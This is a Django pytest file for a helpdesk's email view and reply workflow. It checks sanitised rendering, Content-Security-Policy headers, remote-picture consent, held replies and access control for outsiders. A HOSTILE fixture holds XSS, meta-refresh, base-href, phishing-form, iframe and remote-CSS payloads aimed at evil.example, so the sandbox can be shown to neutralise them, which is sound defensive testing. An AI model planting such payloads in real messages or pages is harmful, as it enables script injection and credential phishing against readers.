"""Mail at the desk over HTTP: how letters show, how they are answered, and what an outsider never gets."""

from __future__ import annotations

import datetime as dt
import json
import re
from html import unescape
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from aspa.channels.email import settings as email_settings
from aspa.channels.email.sending.threads import place_of
from aspa.core.conversations import activities, triage
from aspa.core.conversations.changing import changing
from aspa.core.conversations.models import Attachment, Conversation, Draft, HeldReply, Message
from aspa.core.inboxes.models import Inbox
from aspa.kit import clock
from tests.cast import Cast
from tests.journeys.test_desk_pages import signed_in
from tests.letters import DEES, OURS, letter, mail_inbox, thread, told_address

HOSTILE = """
<script>parent.document.title = "taken"</script><img src=x onerror="parent.document.title='taken'">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<form action="https://evil.example/"><input name=password><button>Go</button></form>
<iframe src="https://evil.example/"></iframe><svg onload="parent.document.title='taken'"></svg>
<style>body { background: url(https://evil.example/css.png) } @import "https://evil.example/a.css";</style>
<img data-remote-src="https://evil.example/pixel.png">
"""


@pytest.fixture
def mail(cast: Cast) -> Inbox:
    return mail_inbox(cast)


@pytest.fixture
def parcel(cast: Cast, mail: Inbox) -> Conversation:
    return thread(cast, mail)


def page_of(client: Client, conversation: Conversation) -> str:
    return client.get(f"/desk/conversations/{conversation.pk}/").content.decode()


def test_a_letter_tells_who_wrote_to_whom(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    letter(parcel, mail, "Where is it?", cc=[["gran@customer.example", "Gran"]], verdict="pass", spf="pass")
    page = page_of(signed_in(cast.ben), parcel)
    assert DEES in page
    assert OURS in page
    assert "Gran &lt;gran@customer.example&gt;" in page
    assert "Sender verified" in page
    assert "SPF pass" in page


def test_a_forged_sender_is_told_loudly(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    letter(parcel, mail, "Send me the money", verdict="fail")
    assert f"This may not be from {DEES}." in page_of(signed_in(cast.ben), parcel)


def test_a_changed_subject_shows_and_a_mere_answer_doesnt(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    letter(parcel, mail, "Again", subject="VS: Re: My parcel")
    assert "Subject: " not in page_of(signed_in(cast.ben), parcel)
    letter(parcel, mail, "Another matter", subject="My refund")
    assert "Subject: My refund" in page_of(signed_in(cast.ben), parcel)


def test_what_was_folded_comes_when_asked_for(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    message = letter(parcel, mail, "Where is it?", rest="On Monday you wrote: we sent it")
    client = signed_in(cast.ben)
    assert "On Monday you wrote" not in page_of(client, parcel)
    assert "On Monday you wrote" in client.get(f"/desk/messages/{message.pk}/rest").content.decode()


def test_a_letter_with_more_than_words_is_shown_as_it_was_sent(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    plain = letter(parcel, mail, "Hello", html="<div>Hello</div>")
    rich = letter(parcel, mail, "Order 12", html="<table><tr><td>Order 12</td></tr></table>")
    page = page_of(signed_in(cast.ben), parcel)
    assert f'src="/desk/messages/{rich.pk}/html"' in page
    assert 'data-shown="sent" hidden' in page.split(f'id="m-{plain.pk}"')[1].split("</article>")[0]
    assert 'data-shown="sent" >' in page.split(f'id="m-{rich.pk}"')[1].split("</article>")[0]


def test_the_sheet_can_do_nothing(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    message = letter(parcel, mail, "Hi", html=HOSTILE)
    answer = signed_in(cast.ben).get(f"/desk/messages/{message.pk}/html")
    policy = answer["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "allow-scripts" not in policy
    assert "https:" not in policy
    assert answer["X-Frame-Options"] == "SAMEORIGIN"
    asked = signed_in(cast.ben).get(f"/desk/messages/{message.pk}/html?pictures=1")
    assert "img-src 'self' data: https:;" in asked["Content-Security-Policy"]
    assert ' src="https://evil.example/pixel.png"' in asked.content.decode()


REMOTE = '<img data-remote-src="https://evil.example/hat.png">'


def fetches(client: Client, message: Message) -> bool:
    """Whether the letter's page fetches the picture from elsewhere without being asked."""
    answer = client.get(f"/desk/messages/{message.pk}/html")
    page = answer.content.decode()
    fetched = ' src="https://evil.example/hat.png"' in page
    assert fetched == ("https:" in answer["Content-Security-Policy"]) == ("data-pictures" in page)
    return fetched


def test_a_senders_pictures_are_always_shown_to_the_one_who_wants_them(
    cast: Cast, mail: Inbox, parcel: Conversation
) -> None:
    first, later = (letter(parcel, mail, "A hat", html=REMOTE) for _ in range(2))
    forged = letter(parcel, mail, "A hat", html=REMOTE, verdict="fail")
    grans = letter(parcel, mail, "A hat", html=REMOTE, sender=["gran@customer.example", "Gran"])
    ben, ada, cy = (signed_in(who) for who in (cast.ben, cast.ada, cast.cy))
    assert page_of(ben, parcel).count("Always show pictures from this sender") == 3
    assert not fetches(ben, later)
    assert cy.post(f"/desk/messages/{first.pk}/pictures").status_code == 404
    assert ben.post(f"/desk/messages/{forged.pk}/pictures").status_code == 404
    assert ben.post(f"/desk/messages/{first.pk}/pictures").status_code == 204
    assert fetches(ben, first)
    assert fetches(ben, later)
    assert not fetches(ben, forged)
    assert not fetches(ben, grans)
    assert not fetches(ada, later)
    assert ben.post(f"/desk/messages/{later.pk}/pictures", {"stop": "1"}).status_code == 204
    assert not fetches(ben, first)


def test_pictures_that_came_along_stand_in_their_place(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    message = letter(parcel, mail, "Look", html='<img src="cid:photo@1"><a href="#">x</a>')
    photo = Attachment.objects.create(
        message=message, inbox=mail, content_id="photo@1", is_inline=True, name="photo.png", content_type="image/png",
        size=1, width=1, height=1, file="attachments/photo.png", created_at=clock.now(),
    )  # fmt: skip
    Message.objects.filter(pk=message.pk).update(has_attachments=True)
    client = signed_in(cast.ben)
    sheet = client.get(f"/desk/messages/{message.pk}/html").content.decode()
    assert f'src="/files/{photo.public_id}/photo.png"' in sheet
    assert 'class="file picture"' not in page_of(client, parcel)


def test_a_risky_file_is_marked(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    message = letter(parcel, mail, "Open it")
    Attachment.objects.create(
        message=message, inbox=mail, name="invoice.pdf.exe", content_type="application/octet-stream", size=1,
        file="attachments/x", created_at=clock.now(),
    )  # fmt: skip
    Message.objects.filter(pk=message.pk).update(has_attachments=True)
    assert "Can carry a program" in page_of(signed_in(cast.ben), parcel)


def test_the_original_is_a_download(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    message = letter(parcel, mail, "Hi", raw=b"From: dee\r\n\r\n<script>alert(1)</script>")
    answer = signed_in(cast.ben).get(f"/desk/messages/{message.pk}/original")
    assert answer["Content-Disposition"].startswith("attachment; ")
    assert answer["Content-Type"] == "application/octet-stream"
    assert b"<script>" in b"".join(answer)


@pytest.mark.parametrize("part", ["html", "html?pictures=1", "html?rest=1", "rest", "original"])
def test_an_outsider_reads_no_letter(cast: Cast, mail: Inbox, parcel: Conversation, part: str) -> None:
    message = letter(parcel, mail, "Hi", html="<b>Hi</b>", rest="x", rest_html="<b>x</b>", raw=b"From: dee\r\n\r\nHi")
    assert signed_in(cast.ben).get(f"/desk/messages/{message.pk}/{part}").status_code == 200
    assert signed_in(cast.cy).get(f"/desk/messages/{message.pk}/{part}").status_code == 404
    assert Client().get(f"/desk/messages/{message.pk}/{part}").status_code == 302


def test_letters_cost_one_query_however_many(
    cast: Cast, mail: Inbox, parcel: Conversation, django_assert_max_num_queries: Any
) -> None:
    for number in range(12):
        letter(parcel, mail, f"Letter {number}", html="<b>x</b>" * 50)
    client = signed_in(cast.ben)
    client.get(f"/desk/conversations/{parcel.pk}/")
    with django_assert_max_num_queries(8):
        client.get(f"/desk/conversations/{parcel.pk}/messages")


def test_the_row_tells_of_files(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    message = letter(parcel, mail, "Look")
    file = Attachment.objects.create(
        message=message, inbox=mail, is_inline=True, name="logo.png", content_type="image/png", size=1,
        file="attachments/x", created_at=clock.now(),
    )  # fmt: skip
    Message.objects.filter(pk=message.pk).update(has_attachments=True)
    client = signed_in(cast.ben)
    clip = 'role="img" aria-label="Files"'
    assert clip not in client.get("/desk/rows?view=all").content.decode()
    Attachment.objects.filter(pk=file.pk).update(is_inline=False)
    # What happens in the conversation afterwards says nothing of its newest word.
    triage.assign(parcel, by=cast.ada, to=cast.ben)
    assert clip in client.get("/desk/rows?view=all").content.decode()
    letter(parcel, mail, "Did you look?")
    assert clip not in client.get("/desk/rows?view=all").content.decode()


# Answering


def answer_to(client: Client, conversation: Conversation, **form: Any) -> Any:
    return client.post(f"/desk/conversations/{conversation.pk}/replies", {"text": "On its way.", **form})


@pytest.fixture
def asked(cast: Cast, mail: Inbox, parcel: Conversation) -> Conversation:
    """Dee has written by mail, with a copy to her grandmother and to another address of ours."""
    letter(parcel, mail, "Where is it?", cc=[["gran@customer.example", "Gran"], ["shop@villa.example", ""]])
    triage.assign(parcel, by=cast.ada, to=cast.ben)
    return parcel


def told(client: Client, conversation: Conversation) -> dict[str, Any]:
    part = client.get(f"/desk/conversations/{conversation.pk}/ways").content.decode()
    return dict(json.loads(unescape(part.split('id="answering" hidden>')[1].split("</span>")[0])))


def test_everybody_who_had_the_last_letter_is_answered_but_ourselves(cast: Cast, asked: Conversation) -> None:
    found = told(signed_in(cast.ben), asked)
    assert found["to"] == f"Dee Dahl <{DEES}>"
    assert found["cc"] == ["gran@customer.example"]
    assert found["people"] == [["gran@customer.example", "Gran"]]
    assert found["subject"] == "Re: My parcel"


def test_a_letter_is_held_so_that_it_can_be_taken_back(cast: Cast, mail: Inbox, asked: Conversation) -> None:
    client = signed_in(cast.ben)
    answer = answer_to(client, asked, client_id="c1", via=mail.pk, cc=["gran@customer.example"])
    assert answer.status_code == 202
    assert 'data-client="c1"' in answer.json()["html"]
    assert not Message.objects.filter(kind="reply").exists()
    assert "On its way." in client.get(f"/desk/conversations/{asked.pk}/held").content.decode()
    assert 'id="held-' in page_of(client, asked)
    back = client.post(f"/desk/conversations/{asked.pk}/held/{answer.json()['held']}/taking-back").json()["draft"]
    assert back["text"] == "On its way."
    assert back["options"] == {"via": mail.pk, "cc": ["gran@customer.example"], "bcc": []}
    assert not HeldReply.objects.exists()


def test_a_changed_subject_is_the_letters_and_comes_back_with_it(cast: Cast, mail: Inbox, asked: Conversation) -> None:
    client = signed_in(cast.ben)
    form = {"client_id": "c1", "via": mail.pk, "subject": "Your\n new  parcel"}
    answer = answer_to(client, asked, **form).json()
    assert "Subject: Your new parcel" in answer["html"]
    held = f"/desk/conversations/{asked.pk}/held/{answer['held']}"
    draft = client.post(f"{held}/taking-back").json()["draft"]
    assert draft["options"]["subject"] == "Your new parcel"
    kept = {"kind": "reply", "text": "Begun", "options": json.dumps(draft["options"])}
    client.post(f"/desk/conversations/{asked.pk}/drafts", kept)
    assert Draft.objects.get().options == draft["options"]
    again = answer_to(client, asked, **form | {"client_id": "c2"}).json()["held"]
    client.post(f"/desk/conversations/{asked.pk}/held/{again}/sending")
    sent = Message.objects.get(kind="reply")
    assert place_of(sent, email_settings.of(mail)).subject == "Your new parcel"
    asked.refresh_from_db()
    assert asked.subject == "My parcel"


def test_only_its_writer_takes_a_letter_back(cast: Cast, asked: Conversation) -> None:
    held = answer_to(signed_in(cast.ben), asked, client_id="c1").json()["held"]
    ada = signed_in(cast.ada)
    assert ada.post(f"/desk/conversations/{asked.pk}/held/{held}/taking-back").status_code == 409
    assert ada.post(f"/desk/conversations/{asked.pk}/held/{held}/sending").status_code == 409
    rows = ada.get(f"/desk/conversations/{asked.pk}/held").content.decode()
    assert "On its way." in rows
    assert "data-take-back" not in rows


def test_a_file_that_was_taken_back_is_in_the_composer_again(cast: Cast, asked: Conversation) -> None:
    client = signed_in(cast.ben)
    file = client.post("/files/upload", {"file": SimpleUploadedFile("a.txt", b"words")}).json()
    held = answer_to(client, asked, client_id="c1", attachments=[file["id"]]).json()["held"]
    back = client.post(f"/desk/conversations/{asked.pk}/held/{held}/taking-back").json()["draft"]
    assert back["attachments"] == [file]


def test_a_letter_is_sent_later_in_the_brands_own_time(cast: Cast, asked: Conversation) -> None:
    cast.brand.timezone = "America/New_York"
    cast.brand.save()
    tomorrow = (clock.now() + dt.timedelta(days=1)).date()
    answer = answer_to(signed_in(cast.ben), asked, client_id="c1", until=f"{tomorrow}T09:00")
    assert answer.status_code == 202
    due = HeldReply.objects.get().due_at
    assert due.astimezone(ZoneInfo("America/New_York")).hour == 9
    menu = signed_in(cast.ben).get(f"/desk/conversations/{asked.pk}/menus/later").content.decode()
    assert "America/New_York" in menu


@pytest.mark.parametrize(
    ("form", "why"),
    [
        ({"cc": "not an address"}, "isn't an e-mail address"),
        ({"via": "999999"}, "answered this way"),
        ({"via": "²"}, "answered this way"),
        ({"until": "yesterday"}, "Choose a day"),
        ({"until": "2001-01-01T09:00"}, "still ahead"),
        ({"until": "2999-01-01T09:00"}, "half a year"),
        ({"text": " "}, "Write something"),
    ],
)
def test_what_cant_be_sent_is_told(cast: Cast, asked: Conversation, form: dict[str, str], why: str) -> None:
    answer = answer_to(signed_in(cast.ben), asked, **form)
    assert answer.status_code == 409
    assert why in answer.json()["error"]["text"]
    assert not HeldReply.objects.exists()


def test_a_chat_is_answered_at_once_and_by_mail_when_chosen(
    cast: Cast, mail: Inbox, conversation: Conversation
) -> None:
    client = signed_in(cast.ben)
    assert "via-menu" not in page_of(client, conversation)
    told_address(cast)
    assert "via-menu" in page_of(client, conversation)
    assert answer_to(client, conversation).status_code == 201
    assert answer_to(client, conversation, cc="gran@customer.example").status_code == 409
    assert answer_to(client, conversation, via=mail.pk).status_code == 202


def test_who_left_the_chat_is_told_gently(cast: Cast, mail: Inbox, conversation: Conversation) -> None:
    told_address(cast)
    client = signed_in(cast.ben)
    assert told(client, conversation)["gone"] is False
    Message.objects.filter(kind="incoming").update(created_at=clock.now() - dt.timedelta(minutes=9))
    assert told(client, conversation)["gone"] is True


def test_a_draft_keeps_the_way_and_the_copies(cast: Cast, mail: Inbox, asked: Conversation) -> None:
    client = signed_in(cast.ben)
    options = {"via": mail.pk, "cc": ["gran@customer.example"], "bcc": ["boss@villa.example"]}
    form = {"kind": "reply", "text": "Begun", "options": json.dumps(options | {"other": "x"})}
    assert client.post(f"/desk/conversations/{asked.pk}/drafts", form).status_code == 204
    assert Draft.objects.get().options == options
    assert client.post(f"/desk/conversations/{asked.pk}/drafts", form | {"options": "[1"}).status_code == 204


@pytest.mark.parametrize("part", ["ways", "held", "menus/later"])
def test_an_outsider_sees_no_way(cast: Cast, asked: Conversation, part: str) -> None:
    assert signed_in(cast.ben).get(f"/desk/conversations/{asked.pk}/{part}").status_code == 200
    assert signed_in(cast.cy).get(f"/desk/conversations/{asked.pk}/{part}").status_code == 404


@pytest.mark.parametrize("verb", ["taking-back", "sending"])
def test_an_outsider_touches_no_held_letter(cast: Cast, asked: Conversation, verb: str) -> None:
    held = answer_to(signed_in(cast.ben), asked, client_id="c1").json()["held"]
    assert signed_in(cast.cy).post(f"/desk/conversations/{asked.pk}/held/{held}/{verb}").status_code == 404
    assert HeldReply.objects.filter(pk=held).exists()


# Writing first


def test_a_new_letter_waits_in_its_conversation_and_goes(cast: Cast, mail: Inbox) -> None:
    client = signed_in(cast.ben)
    assert "data-new" in client.get("/desk/").content.decode()
    dialog = client.get("/desk/new?to=dee@customer.example").content.decode()
    assert 'value="dee@customer.example"' in dialog
    file = client.post("/files/upload", {"file": SimpleUploadedFile("a.txt", b"words")}).json()
    form = {"via": mail.pk, "to": DEES, "subject": "Your order", "text": "It is here.", "client_id": "c1"}
    answer = client.post("/desk/new", form | {"attachments": [file["id"]]})
    begun = Conversation.objects.get()
    assert json.loads(answer["HX-Trigger"])["desk:go"] == {"url": f"/desk/conversations/{begun.pk}/"}
    # The same again begins nothing.
    assert client.post("/desk/new", form).headers["HX-Trigger"] == answer.headers["HX-Trigger"]
    page = page_of(client, begun)
    assert "It is here." in page
    assert "data-take-back" in page
    assert not Message.objects.exists()
    held = HeldReply.objects.get()
    assert client.post(f"/desk/conversations/{begun.pk}/held/{held.pk}/sending").status_code == 204
    sent = Message.objects.get(kind="reply")
    assert [one.public_id for one in sent.attachments.all()] == [file["id"]]
    begun.refresh_from_db()
    assert begun.status == "waiting"
    assert client.post("/desk/new", form | {"to": "nobody", "client_id": ""}).status_code == 409


def test_a_new_letter_that_was_taken_back_is_a_draft_and_can_still_be_sent(cast: Cast, mail: Inbox) -> None:
    client = signed_in(cast.ben)
    form = {"via": mail.pk, "to": DEES, "subject": "Your order", "text": "It is here.", "client_id": "c1"}
    client.post("/desk/new", form)
    begun, held = Conversation.objects.get(), HeldReply.objects.get()
    draft = client.post(f"/desk/conversations/{begun.pk}/held/{held.pk}/taking-back").json()["draft"]
    assert draft["text"] == "It is here."
    assert told(client, begun)["to"] == DEES
    assert told(client, begun)["subject"] == f"Your order [{begun.reference}]"
    begun.refresh_from_db()
    assert (begun.status, begun.assignee) == ("open", cast.ben)
    again = answer_to(client, begun, client_id="c2", via=mail.pk).json()["held"]
    client.post(f"/desk/conversations/{begun.pk}/held/{again}/sending")
    begun.refresh_from_db()
    assert begun.status == "waiting"


def test_an_outsider_writes_from_no_inbox_of_ours(cast: Cast, mail: Inbox) -> None:
    client = signed_in(cast.cy)
    assert "data-new" not in client.get("/desk/").content.decode()
    dialog = client.get("/desk/new").content.decode()
    assert "There is no inbox" in dialog
    assert "Villa" not in dialog
    form = {"via": mail.pk, "to": DEES, "subject": "Your order", "text": "It is here."}
    assert client.post("/desk/new", form).status_code == 404
    assert not Conversation.objects.exists()


def test_spam_tells_whose_mail_is_blocked(cast: Cast, asked: Conversation) -> None:
    form = {"how": "spam", "reason": "Advertising"}
    answer = signed_in(cast.ada).post(f"/desk/conversations/{asked.pk}/setting-aside", form)
    assert f"Mail from {DEES} is blocked from now on." in answer["HX-Trigger"]


def test_what_was_told_and_did_not_arrive_is_shown(cast: Cast, parcel: Conversation) -> None:
    with changing(parcel) as current:
        told = activities.add(current, "ask_solved", agent=cast.ben)
    Message.objects.filter(pk=told.pk).update(state="failed", state_reason="No <such> address")
    page = page_of(signed_in(cast.ben), parcel)
    assert "Not delivered. No &lt;such&gt; address" in page


def test_who_told_no_name_is_called_by_their_address(cast: Cast, mail: Inbox, asked: Conversation) -> None:
    told_address(cast, verified=True)
    cast.dee.name = ""
    cast.dee.save()
    client = signed_in(cast.ben)
    side = client.get(f"/desk/conversations/{asked.pk}/side").content.decode()
    assert re.search(f"<h2[^>]*><a [^>]*>{DEES}</a></h2>", side)
    assert DEES in client.get("/desk/rows?view=all").content.decode()
